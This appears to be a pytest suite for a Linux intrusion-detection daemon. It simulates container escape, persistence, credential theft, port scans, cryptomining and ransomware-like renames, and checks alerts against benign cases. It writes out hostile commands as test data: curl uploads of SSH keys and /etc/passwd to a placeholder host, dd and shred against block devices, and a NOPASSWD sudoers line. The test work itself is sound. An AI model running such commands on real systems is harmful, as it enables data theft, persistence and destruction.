    b1, rc, _ = run([PY, "-c", "import os; os.setresuid(65534, 65534, 0); os.setresuid(0, 0, 0)"])
    assert rc == 0
    assert_quiet(vd, pids=[b1])


def test_setuid_bit(vd, tmp):
    f = fake_tool(tmp, "backdoor")
    pid, rc, _ = run(["chmod", "u+s", f])
    assert rc == 0
    expect(vd, "privilege_escalation/setuid_bit_set", pid=pid, sid=pid)
    g = fake_tool(tmp, "tool")
    b1, _, _ = run(["chmod", "755", g])
    assert_quiet(vd, pids=[b1])


def find_cgroup2():
    with open("/proc/self/mounts") as f:
        for line in f:
            parts = line.split()
            if parts[2] == "cgroup2":
                return parts[1]
    return None


def test_container_escape(vd, tmp):
    root = find_cgroup2()
    if not root:
        pytest.skip("no cgroup2 hierarchy")
    cid = uuid.uuid4().hex + uuid.uuid4().hex
    parent = os.path.join(root, "docker")
    made_parent = not os.path.isdir(parent)
    cg = os.path.join(parent, cid)
    try:
        os.makedirs(cg)
    except OSError as e:
        pytest.skip(f"cannot create a cgroup: {e}")
    mnt = os.path.join(tmp, "mnt")
    os.makedirs(mnt)
    rootdev = subprocess.run(["findmnt", "-no", "SOURCE", "/"], capture_output=True, text=True).stdout.strip()
    script = f"""
echo $$ > {cg}/cgroup.procs
unshare --mount --propagation private sh -c '
  mount -o ro {rootdev} {mnt} 2>/dev/null && umount {mnt}
  mount -t proc proc {mnt} && umount {mnt}'
nsenter -t 1 -m -- /bin/true 2>/dev/null
curl -s -m 1 --unix-socket /var/run/docker.sock http://localhost/version >/dev/null 2>&1
true
"""
    try:
        pid, rc, _ = run(["bash", "-c", script])
        # before the cgroup goes: vigild names a process's container from
        # its cgroup path, which it may look up only when the events come
        in_ctr = lambda a: get(a["events"][0], "container.id") == cid  # noqa: E731
        expect(vd, "privilege_escalation/container_unshare_mount", sid=pid, pred=in_ctr)
        if rootdev.startswith("/dev/"):
            a = expect(vd, "privilege_escalation/container_host_disk_mount", sid=pid, pred=in_ctr)
            assert get(a["events"][0], "vigil.mount.source") == rootdev
        expect(vd, "privilege_escalation/container_proc_sys_mount", sid=pid, pred=in_ctr)
        expect(vd, "privilege_escalation/container_nsenter", sid=pid)
        expect(vd, "privilege_escalation/container_runtime_socket_access", sid=pid, pred=in_ctr)
    finally:
        for _ in range(50):
            try:
                os.rmdir(cg)
                break
            except OSError:
                time.sleep(0.1)
        if made_parent:
            try:
                os.rmdir(parent)
            except OSError:
                pass

    # benign: the runtime socket used from the host, not from a container
    b1, _, _ = run(["curl", "-s", "-m", "1", "--unix-socket", "/var/run/docker.sock", "http://localhost/version"])
    assert_quiet(vd, sids=[b1])


# ---------------------------------------------------------------- persistence

def test_kernel_module_load(vd, tmp):
    pid, rc, out = run_json([helper("init_module_garbage")])
    a = expect(vd, "persistence/kernel_module_load_syscall", pid=pid, sid=pid)
    assert get(a["events"][0], "vigil.module.syscall") in ("init_module", "finit_module")
    insmod = fake_tool(tmp, "insmod")
    pid, _, _ = run([insmod, os.path.join(tmp, "diamorphine.ko")])
    expect(vd, "persistence/kernel_module_tool", pid=pid, sid=pid)
    # benign: the kernel's own module request (`/sbin/modprobe -q -- NAME`)
    modprobe = fake_tool(tmp, "modprobe")
    b1, _, _ = run(["/sbin/modprobe", "-q", "--", "net-pf-99"], executable=modprobe)
    assert_quiet(vd, pids=[b1])


PERSIST = r"""
import json, os, sys
paths = json.loads(sys.argv[1])
made = []
try:
    for p, text in paths["create"]:
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "x") as f:
            f.write(text)
        made.append(p)
    for src, dst in paths["rename"]:
        with open(src, "x") as f:
            f.write("export PATH=$PATH\n")
        os.rename(src, dst)
        made.append(dst)
    for target, link in paths.get("symlink", []):
        os.symlink(target, link)
        made.append(link)
    # a line added to a file that was there (the caller removes it)
    for p, text in paths.get("append", []):
        with open(p, "a") as f:
            f.write(text)
finally:
    for p in made:
        os.unlink(p)
print(json.dumps({"pid": os.getpid(), "made": made}))
"""


PAM_DIR = next((d for d in ("/lib/x86_64-linux-gnu/security", "/usr/lib/x86_64-linux-gnu/security",
                             "/lib/aarch64-linux-gnu/security", "/usr/lib64/security", "/lib64/security",
                             "/lib/security") if os.path.isdir(d)), "/lib/security")
PAM_DIR = os.path.realpath(PAM_DIR)  # /lib is /usr/lib on merged-usr systems: paths come resolved


def test_persistence_files(vd, tmp):
    home = os.path.join(tmp, "home")
    os.makedirs(home)
    system = [
        (f"/etc/cron.d/vigil-e3-{TOK}", "# vigil test\n", "persistence/cron_file_write"),
        (f"/etc/systemd/system/vigil-e3-{TOK}.service", "[Unit]\nDescription=vigil test\n",
         "persistence/systemd_unit_write"),
        (f"/etc/init.d/vigil-e3-{TOK}", "#!/bin/sh\nexit 0\n", "persistence/rc_script_write"),
        (f"/etc/profile.d/vigil-e3-{TOK}.sh", "# vigil test\n", "persistence/shell_profile_write"),
        (os.path.join(home, ".bashrc"), "# vigil test\n", "persistence/shell_profile_write"),
        (os.path.join(home, ".ssh", "authorized_keys"), "ssh-ed25519 AAAAvigiltest x\n",
         "persistence/ssh_authorized_keys_write"),
        (os.path.join(home, ".config", "systemd", "user", "vigil-e3.service"), "[Unit]\n",
         "persistence/systemd_unit_write"),
        # names that nothing reads: a PAM service no program asks for, and
        # files without the suffix (.rules, .conf) their directories load
        (f"/etc/pam.d/vigil-e3-{TOK}", "# vigil test\n", "persistence/pam_module_or_config_write"),
        (f"{PAM_DIR}/pam_vigil_e3_{TOK}.so", "not a module\n", "persistence/pam_module_or_config_write"),
        (f"/etc/udev/rules.d/vigil-e3-{TOK}", "# vigil test\n", "persistence/udev_rule_write"),
        (f"/etc/apt/apt.conf.d/vigil-e3-{TOK}", "// vigil test\n", "persistence/package_manager_hook_write"),
        (f"/etc/update-motd.d/vigil-e3-{TOK}", "#!/bin/sh\n", "persistence/motd_script_write"),
        (os.path.join(home, ".config", "autostart", "vigil-e3.desktop"), "[Desktop Entry]\n",
         "persistence/xdg_autostart_write"),
        (f"/etc/ssh/sshd_config.d/vigil-e3-{TOK}", "# vigil test\n", "persistence/sshd_config_write"),
        (f"/etc/modules-load.d/vigil-e3-{TOK}", "# vigil test\n", "persistence/kernel_module_autoload_write"),
        (f"/etc/modprobe.d/vigil-e3-{TOK}", "# vigil test\n", "persistence/kernel_module_autoload_write"),
    ]
    system = [s for s in system if os.path.isdir(os.path.dirname(s[0])) or s[0].startswith(home)]
    renames = [(os.path.join(home, ".profile.tmp"), os.path.join(home, ".profile"))]
    spec = {"create": [(p, t) for p, t, _ in system], "rename": renames}
    try:
        pid, rc, out = run_json([PY, "-c", PERSIST, json.dumps(spec)])
    finally:
        for p, _, _ in system:
            if os.path.exists(p):
                os.unlink(p)
    assert rc == 0, out
    for path, _, rel in system:
        expect(vd, rel, pid=pid, sid=pid, pred=lambda a, p=path: get(a["events"][0], "file.path") == p)
    expect(vd, "persistence/shell_profile_rename", pid=pid, sid=pid)

    # moved and linked into place: a PAM configuration written next to its
    # final name and renamed over it (as sed -i does), and a module linked in
    staged, final = f"/etc/pam.d/.vigil-e3-{TOK}.tmp", f"/etc/pam.d/vigil-e3-r-{TOK}"
    link = f"{PAM_DIR}/pam_vigil_e3_l_{TOK}.so"
    spec = {"create": [], "rename": [(staged, final)], "symlink": [(os.path.join(tmp, "evil.so"), link)]}
    try:
        pid, rc, out = run_json([PY, "-c", PERSIST, json.dumps(spec)])
    finally:
        for p in (staged, final, link):
            if os.path.lexists(p):
                os.unlink(p)
    assert rc == 0, out
    for path, act in ((final, "file_rename"), (link, "file_symlink")):
        expect(vd, "persistence/pam_module_or_config_write", pid=pid, sid=pid,
               pred=lambda a, p=path, x=act: get(a["events"][0], "file.path") == p
               and get(a["events"][0], "event.action") == x)

    # a key and a line appended to files that were there (the commonest
    # way): an open for writing, reported under the watched names
    old = {os.path.join(home, "old", ".ssh", "authorized_keys"): "persistence/ssh_authorized_keys_write",
           os.path.join(home, "old", ".bashrc"): "persistence/shell_profile_write"}
    for p in old:
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            f.write("# there before\n")
    spec = {"create": [], "rename": [], "append": [(p, "ssh-ed25519 AAAAvigiltest y\n") for p in old]}
    pid, rc, out = run_json([PY, "-c", PERSIST, json.dumps(spec)])
    assert rc == 0, out
    for path, rel in old.items():
        expect(vd, rel, pid=pid, sid=pid, pred=lambda a, p=path: get(a["events"][0], "file.path") == p
               and get(a["events"][0], "event.action") == "file_open_write")

    # benign: ordinary files in the same places
    spec = {"create": [(os.path.join(home, "notes.txt"), "x\n"), (f"/etc/vigil-e3-{TOK}.conf", "x=1\n")],
            "rename": [(os.path.join(home, "a.tmp"), os.path.join(home, "a.txt"))]}
    try:
        b1, rc, out = run_json([PY, "-c", PERSIST, json.dumps(spec)])
    finally:
        if os.path.exists(f"/etc/vigil-e3-{TOK}.conf"):
            os.unlink(f"/etc/vigil-e3-{TOK}.conf")
    assert rc == 0, out
    assert_quiet(vd, pids=[b1])


def test_sudoers_dropin_and_immutable_attribute(vd, tmp):
    # sudo skips drop-ins whose name holds a dot: this one never takes effect
    dropin = f"/etc/sudoers.d/vigil-e3.{TOK}"
    made_dir = not os.path.isdir("/etc/sudoers.d")
    if made_dir:
        os.mkdir("/etc/sudoers.d", 0o750)
    try:
        pid, rc, _ = run(["bash", "-c", f"echo '# vigil test: nobody ALL=(ALL) NOPASSWD: ALL' > {dropin}"])
        assert rc == 0
        a = expect(vd, "privilege_escalation/sudoers_dropin_write", pid=pid, sid=pid)
        assert get(a["events"][0], "file.path") == dropin
        b1, _, _ = run(["ls", "-l", "/etc/sudoers.d"])
    finally:
        if os.path.exists(dropin):
            os.unlink(dropin)
        if made_dir:
            os.rmdir("/etc/sudoers.d")

    # chattr +i and +a for real, on a scratch file (undone in the finally)
    target = os.path.join(tmp, "authorized_keys")
    open(target, "w").close()
    try:
        pid2, rc, _ = run(["chattr", "+i", target])
        if rc != 0:
            pytest.skip("the scratch directory's file system has no inode flags")
        expect(vd, "defense_evasion/immutable_attribute_set", pid=pid2, sid=pid2,
               pred=lambda a: get(a["events"][0], "file.path") == target)
        b2, _, _ = run(["chattr", "-i", target])
        pid3, _, _ = run(["chattr", "=a", target])
        expect(vd, "defense_evasion/immutable_attribute_set", pid=pid3, sid=pid3)
        # by the ioctl itself, as a dropper written in Python would
        code = ("import fcntl, struct, sys; fo = open(sys.argv[1]); fd = fo.fileno(); "
                "f = struct.unpack('i', fcntl.ioctl(fd, 0x80086601, bytes(4)))[0]; "
                "fcntl.ioctl(fd, 0x40086602, struct.pack('i', f | 0x10))")
        pid4, rc, _ = run([PY, "-c", code, target])
        assert rc == 0
        expect(vd, "defense_evasion/immutable_attribute_set", pid=pid4, sid=pid4)
    finally:
        subprocess.run(["chattr", "-ia", target], capture_output=True)
    # benign: removing the attributes, and unrelated ones (nodump, no atime)
    b3, _, _ = run(["chattr", "-a", target])
    b4, _, _ = run(["chattr", "+dA", target])
    assert_quiet(vd, pids=[b1, b2, b3, b4], sids=[b1, b2, b3, b4])


def _fcaps(permitted):
    """security.capability, revision 2, effective."""
    return struct.pack("<5I", 0x02000001, permitted & 0xffffffff, 0, permitted >> 32, 0)


def test_setcap_dangerous_capability(vd, tmp):
    # real setcap on a copy of /bin/true: the capability grants nothing
    # through a program that does nothing, and the copy is removed
    setcap = shutil.which("setcap") or "/sbin/setcap"
    target = fake_tool(tmp, "python3")
    if os.path.exists(setcap):
        pid, rc, _ = run([setcap, "cap_setuid+ep", target])
        assert rc == 0
        a = expect(vd, "privilege_escalation/setcap_dangerous_capability", pid=pid, sid=pid)
        assert get(a["events"][0], "vigil.xattr.capabilities") == ["cap_setuid"]
        pid2, _, _ = run([setcap, "CAP_DAC_READ_SEARCH,cap_net_raw=eip", target])
        expect(vd, "privilege_escalation/setcap_dangerous_capability", pid=pid2, sid=pid2)
        # benign: what packages do (ping, a server binding a low port), and removal
        b1, _, _ = run([setcap, "cap_net_raw+ep", target])
        b2, _, _ = run([setcap, "cap_net_bind_service=+ep", target])
        b3, _, _ = run([setcap, "-r", target])
        assert_quiet(vd, pids=[b1, b2, b3], sids=[b1, b2, b3])
    # without setcap: the attribute written by a script
    code = "import os, sys; os.setxattr(sys.argv[1], 'security.capability', bytes.fromhex(sys.argv[2]))"
    pid3, rc, _ = run([PY, "-c", code, target, _fcaps(1 << 21).hex()])  # cap_sys_admin
    assert rc == 0
    a = expect(vd, "privilege_escalation/setcap_dangerous_capability", pid=pid3, sid=pid3)
    assert get(a["events"][0], "file.path") == target
    b4, rc, _ = run([PY, "-c", code, target, _fcaps(1 << 10).hex()])  # cap_net_bind_service
    assert rc == 0
    assert_quiet(vd, pids=[b4], sids=[b4])


def test_acl_on_sensitive_file(vd, tmp):
    # an ACL entry for nobody on a sudoers drop-in of the test's own (sudo
    # skips names with a dot, so it never takes effect), written as setfacl
    # writes it; the real files are left alone
    entries = [(1, 4, 0xffffffff), (2, 6, 65534), (4, 4, 0xffffffff), (0x10, 6, 0xffffffff), (0x20, 0, 0xffffffff)]
    acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", t, p, i) for t, p, i in entries)
    code = "import os, sys; os.setxattr(sys.argv[1], 'system.posix_acl_access', bytes.fromhex(sys.argv[2]))"
    dropin = f"/etc/sudoers.d/vigil-acl.{TOK}"
    made_dir = not os.path.isdir("/etc/sudoers.d")
    if made_dir:
        os.mkdir("/etc/sudoers.d", 0o750)
    try:
        os.close(os.open(dropin, os.O_CREAT | os.O_WRONLY, 0o440))
        pid, rc, out = run([PY, "-c", code, dropin, acl.hex()])
        assert rc == 0, out
        a = expect(vd, "privilege_escalation/acl_on_sensitive_file", pid=pid, sid=pid)
        assert get(a["events"][0], "file.path") == dropin
        assert "u:65534:rw-" in get(a["events"][0], "vigil.xattr.acl")
    finally:
        if os.path.exists(dropin):
            os.unlink(dropin)
        if made_dir:
            os.rmdir("/etc/sudoers.d")
    # benign: the same ACL on a file of the user's own
    own = os.path.join(tmp, "shared.txt")
    open(own, "w").close()
    b1, rc, _ = run([PY, "-c", code, own, acl.hex()])
    assert rc == 0
    assert_quiet(vd, pids=[b1], sids=[b1])


def test_process_hidden_by_proc_mount(vd, tmp):
    victim = spawn(["sleep", "30"])
    empty = os.path.join(tmp, "empty")
    mnt = os.path.join(tmp, "mnt")
    os.makedirs(empty)
    os.makedirs(mnt)
    try:
        # in a private mount namespace: the host's ps keeps seeing the victim
        hide = f"mount --bind {empty} /proc/{victim.pid} && umount /proc/{victim.pid}"
        pid, rc, out = run(["unshare", "--mount", "--propagation", "private", "sh", "-c", hide])
        assert rc == 0, out
        a = expect(vd, "defense_evasion/process_hidden_by_proc_mount", sid=pid)
        assert get(a["events"][0], "vigil.mount.target") == f"/proc/{victim.pid}"
        # benign: a tmpfs mounted elsewhere the same way
        b1, rc, out = run(["unshare", "--mount", "--propagation", "private", "sh", "-c",
                           f"mount -t tmpfs none {mnt} && umount {mnt}"])
        assert rc == 0, out
        assert_quiet(vd, sids=[b1], rel="defense_evasion/process_hidden_by_proc_mount")
    finally:
        kill_group(victim)


def test_file_upload_and_disk_wipe(vd, tmp):
    # played by copies of /bin/true: the detection is on the exec
    curl = fake_tool(tmp, "curl")
    wget = fake_tool(tmp, "wget")
    dd = fake_tool(tmp, "dd")
    shred = fake_tool(tmp, "shred")
    url = "https://files.example.invalid/u"
    for argv in ([curl, "-T", "/tmp/loot.tgz", url], [curl, "-F", "f=@/etc/passwd", url],
                 [curl, "--data-binary", "@/root/.ssh/id_rsa", url], [wget, "--post-file=/tmp/db.sql", url]):
        pid, _, _ = run(argv)
        expect(vd, "exfiltration/file_upload_with_http_client", pid=pid, sid=pid)
    for argv in ([dd, "if=/dev/zero", "of=/dev/vda", "bs=1M"], [shred, "-n1", "-z", "/dev/nvme0n1"]):
        pid, _, _ = run(argv)
        expect(vd, "impact/disk_wipe_block_device", pid=pid, sid=pid)
    # benign: downloads, a JSON post, dd into a file, shred of a file
    b = [run(argv)[0] for argv in ([curl, "-sfo", f"{tmp}/x", url], [curl, "-d", '{"a":1}', url],
                                   [wget, "-q", url], [dd, "if=/dev/zero", f"of={tmp}/img", "bs=1M", "count=1"],
                                   [shred, "-u", f"{tmp}/x"])]
    assert_quiet(vd, pids=b, sids=b)


def test_account_creation(vd, tmp):
    prefix = os.path.join(tmp, "root")
    os.makedirs(os.path.join(prefix, "etc"))
    for name, text in (("passwd", "root:x:0:0:root:/root:/bin/bash\n"), ("group", "root:x:0:\n"),
                       ("shadow", "root:*:19000:0:99999:7:::\n"), ("gshadow", "root:*::\n")):
        with open(os.path.join(prefix, "etc", name), "w") as f:
            f.write(text)
    # useradd working on a copy of the account files under --prefix: the host's are untouched
    pid, rc, _ = run(["useradd", "--prefix", prefix, f"vigil{TOK[:6]}"])
    assert rc == 0
    expect(vd, "persistence/account_created", pid=pid, sid=pid)
    # /etc/passwd opened for appending by a script (nothing is written)
    pid, rc, _ = run([PY, "-c", "f = open('/etc/passwd', 'a'); f.close()"])
    assert rc == 0
    expect(vd, "persistence/passwd_file_write", pid=pid, sid=pid)
    # benign: reading the account database
    b1, _, _ = run(["cat", "/etc/passwd"])
    b2, _, _ = run(["getent", "passwd", "root"])
    assert_quiet(vd, pids=[b1, b2])


# ---------------------------------------------------------------- credential access

def test_credential_access(vd):
    pid, rc, out = run_json([helper("sensitive_read"), "/etc/shadow"])
    assert rc == 0
    expect(vd, "credential_access/shadow_file_read", pid=pid, sid=pid)
    pid, rc, out = run_json([helper("sensitive_read"), vd.key])
    assert rc == 0
    a = expect(vd, "credential_access/ssh_private_key_read", pid=pid, sid=pid)
    assert get(a["events"][0], "file.path") == vd.key
    # benign: the public key and the account list
    b1, _, _ = run_json([helper("sensitive_read"), vd.key + ".pub"])
    b2, _, _ = run_json([helper("sensitive_read"), "/etc/passwd"])
    assert_quiet(vd, pids=[b1, b2])


# ---------------------------------------------------------------- discovery

def test_discovery_burst(vd):
    pid, rc, _ = run(["bash", "-c", "whoami; id; uname -a; hostname; ps aux; ip a; true"])
    assert rc == 0
    a = expect(vd, "discovery/discovery_burst", sid=pid, timeout=15)
    # read the session's execs only now: the alert may be written before
    # the last of them reaches the events file we read
    vd.wait_for(lambda ev: ev["event"]["action"] == "exec" and ev["process"]["pid"] == a["process"]["pid"],
                timeout=10, what="exec of the alerted process")
    cmds = {ev["process"]["pid"] for ev in vd.find_all(
        lambda ev: ev["event"]["action"] == "exec" and get(ev, "vigil.sid") == pid)}
    assert a["process"]["pid"] in cmds
    assert len(a["events"]) >= 5
    # benign: four ordinary admin commands
    b1, rc, _ = run(["bash", "-c", "ps aux; ss -tlnp; ip a; who; true"])
    assert_quiet(vd, sids=[b1], rel="discovery/discovery_burst")


PORT_SCAN = r"""
import json, os, socket, sys
host, ports = sys.argv[1], [int(p) for p in sys.argv[2].split(",")]
opened = 0
for p in ports:
    s = socket.socket()
    s.settimeout(0.5)
    opened += s.connect_ex((host, p)) == 0
    s.close()
print(json.dumps({"pid": os.getpid(), "open": opened}))
"""


def test_port_scan(vd):
    # a connect scan of 60 closed loopback ports (refused at once)
    probe = socket.socket()
    probe.bind(("127.0.0.1", 0))
    base = probe.getsockname()[1]
    probe.close()
    ports = ",".join(str(20000 + (base + i * 7) % 30000) for i in range(60))
    pid, rc, out = run_json([PY, "-c", PORT_SCAN, "127.0.0.1", ports])
    assert rc == 0, out
    a = expect(vd, "discovery/port_scan", pid=pid, sid=pid, timeout=15)
    # the alert carries the first events (up to 20), all connects to different ports
    assert all(get(e, "event.action") == "connect" for e in a["events"])
    assert len({get(e, "destination.port") for e in a["events"]}) == len(a["events"]) >= 10
    # benign: as many connections, to one listening port (a client pool)
    srv, port = listener()
    srv.listen(128)
    accepted = []

    def accept_all():
        try:
            while True:
                c, _ = srv.accept()
                accepted.append(c)
        except OSError:
            pass
    t = threading.Thread(target=accept_all, daemon=True)
    t.start()
    try:
        b1, rc, out = run_json([PY, "-c", PORT_SCAN, "127.0.0.1", ",".join([str(port)] * 60)])
        assert rc == 0 and out["open"] == 60, out
    finally:
        srv.close()
        for c in accepted:
            c.close()
    assert_quiet(vd, pids=[b1], sids=[b1])


# ---------------------------------------------------------------- impact

def test_cryptominer(vd, tmp):
    xmrig = fake_tool(tmp, "xmrig")
    pid, _, _ = run([xmrig, "-o", "stratum+tcp://127.0.0.1:3333", "-u",
                     "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
                     "-p", "x", "--donate-level", "1"])
    expect(vd, "impact/cryptominer_cmdline", pid=pid, sid=pid)

    try:
        srv = socket.socket()
        srv.bind(("127.0.0.1", 14444))
        srv.listen(1)
    except OSError:
        pytest.skip("port 14444 busy")
    other, oport = listener()
    try:
        code = "import socket,sys; socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=3).close()"
        pid, rc, _ = run([PY, "-c", code, "14444"])
        assert rc == 0
        expect(vd, "command_and_control/mining_pool_port_connection", pid=pid, sid=pid)
        b1, rc, _ = run([PY, "-c", code, str(oport)])
        assert rc == 0
    finally:
        srv.close()
        other.close()
    pid, rc, out = run_json([helper("connect_refused"), "--udp-dns", "127.0.0.1", "53", "pool.supportxmr.com"])
    expect(vd, "command_and_control/mining_pool_dns", pid=pid, sid=pid)
    # benign: a tool with -o/-u/-p options that are not a pool
    tool = fake_tool(tmp, "backup-tool")
    b2, _, _ = run([tool, "-o", "out.tar", "-u", "backup", "-p", "secret"])
    assert_quiet(vd, pids=[b1, b2])


MAKE_FILES = r"""
import os, sys
d, n = sys.argv[1], int(sys.argv[2])
for i in range(n):
    with open(os.path.join(d, f"doc{i:03d}.txt"), "w") as f:
        f.write("quarterly report\n")
"""

ENCRYPT = r"""
import os, sys
d = sys.argv[1]
for name in sorted(os.listdir(d)):
    p = os.path.join(d, name)
    os.rename(p, p + ".locked")
print(os.getpid())
"""


def make_docs(directory, n):
    """n files extracted by tar (an archiver: not a write burst)."""
    os.makedirs(directory)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        for i in range(n):
            data = b"quarterly report\n"
            info = tarfile.TarInfo(f"doc{i:03d}.txt")
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    subprocess.run(["tar", "-xf", "-", "-C", directory], input=buf.getvalue(), check=True, timeout=30)


def test_ransomware_bursts(vd, tmp):
    victim = os.path.join(tmp, "victim")
    make_docs(victim, 60)
    pid, rc, _ = run([PY, "-c", ENCRYPT, victim])
    assert rc == 0
    a = expect(vd, "impact/ransomware_rename_burst", pid=pid, sid=pid, timeout=15)
    assert a["rule"]["level"] == "high"
    assert len(a["events"]) >= 1

    out = os.path.join(tmp, "written")
    os.makedirs(out)
    pid, rc, _ = run([PY, "-c", MAKE_FILES, out, "60"])
    assert rc == 0
    expect(vd, "impact/ransomware_write_burst", pid=pid, sid=pid, timeout=15)

    # benign: mv of many files, a few renames, tar extracting many files
    small = os.path.join(tmp, "small")
    make_docs(small, 20)
    b1, _, _ = run([PY, "-c", ENCRYPT, small])
    dest = os.path.join(tmp, "archive")
    os.makedirs(dest)
    b2, _, _ = run(["bash", "-c", f"mv {victim}/* {dest}/"])
    b3, _, _ = run(["bash", "-c", f"mkdir {tmp}/x && cd {tmp} && tar -cf d.tar archive && tar -xf d.tar -C x"])
    assert_quiet(vd, sids=[b1, b2, b3])
